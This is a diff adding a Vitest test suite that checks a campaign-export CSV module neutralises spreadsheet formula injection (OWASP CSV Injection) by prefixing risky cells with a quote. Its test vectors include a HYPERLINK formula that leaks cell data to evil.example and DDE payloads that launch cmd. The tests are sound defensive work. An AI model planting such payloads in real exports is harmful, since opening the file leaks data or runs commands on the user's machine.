@@ -1,0 +1,74 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, it } from 'vitest';
+import type { CampaignItem, Strategy } from '../contract/campaigns.js';
+import { csvField, editorCsv, keywordsCsv, neutralizeFormula, toCsv } from './export-csv.js';
+
+/**
+ * CSV injection (issue 30, OWASP "CSV Injection"): a cell that starts with =, +, -, @, a tab or a
+ * carriage return (also after leading spaces) reaches the spreadsheet as text, never as a formula.
+ */
+const VECTORS: Array<[label: string, value: string]> = [
+  ['equals', '=HYPERLINK("http://evil.example/?d="&A2,"Click")'],
+  ['plus', "+cmd|' /C calc'!A0"],
+  ['minus', '-2+3+cmd|\' /C calc\'!A0'],
+  ['at', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+  ['tab', '\t=1+1'],
+  ['carriage return', '\r=1+1'],
+  ['spaces then equals', '   =1+1'],
+  ['no-break space then plus', '\u00a0+1'],
+  ['full-width equals', '\uff1d1+1'],
+  ['full-width at', '\uff20SUM(1)'],
+  ['newline then minus', '\n-1+1'],
+];
+
+const FORMULA = /^[\s\u00a0\u3000\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;
+
+const strategyWith = (text: string): Strategy => ({
+  summary: 's',
+  recommendedCampaignType: 'Search',
+  bidding: 'b',
+  adGroups: [{ name: text, keywords: [{ text, matchType: 'PHRASE' }] }],
+  headlines: [text, 'Pan artesanal', 'Tartas a medida'],
+  descriptions: [text, 'Pan de masa madre cada mañana.'],
+  negativeKeywords: [text],
+  budget: { weekly: 100, daily: 14.29, split: [] },
+  kpis: [],
+  nextSteps: [],
+});
+
+const campaignWith = (text: string): CampaignItem => ({
+  id: 'c1',
+  name: text,
+  status: 'Strategy ready',
+  createdAt: '2026-11-23T00:00:00.000Z',
+  objective: 'Sales',
+  type: 'Search',
+  location: text,
+  language: 'Spanish',
+  budget: 100,
+  link1: 'https://example.com',
+});
+
+describe('formula neutralisation', () => {
+  it.each(VECTORS)('%s: the cell is written as text (a leading single quote)', (_label, value) => {
+    expect(neutralizeFormula(value)).toBe(`'${value}`);
+    const rows = parse(toCsv([[value]]), { bom: true, relax_quotes: true }) as string[][];
+    expect(rows[0]?.[0]).toBe(`'${value}`);
+  });
+
+  it('leaves ordinary text, inner signs and numbers alone', () => {
+    for (const text of ['Panadería', 'pan + café', 'a=b', 'e-mail', 'x@y.z', '100%', '']) expect(neutralizeFormula(text)).toBe(text);
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField('14.29')).toBe('14.29');
+  });
+
+  it.each(VECTORS)('%s: no cell of the Editor or keywords CSV starts a formula', (_label, value) => {
+    for (const csv of [editorCsv(campaignWith(value), strategyWith(value)), keywordsCsv(strategyWith(value))]) {
+      const rows = parse(csv, { bom: true, relax_column_count: true }) as string[][];
+      const cells = rows.flat();
+      expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
+      // The value is still there, whole, as text.
+      expect(cells.some((c) => c.includes(value.trim()) && c.startsWith("'"))).toBe(true);
+    }
+  });
+});
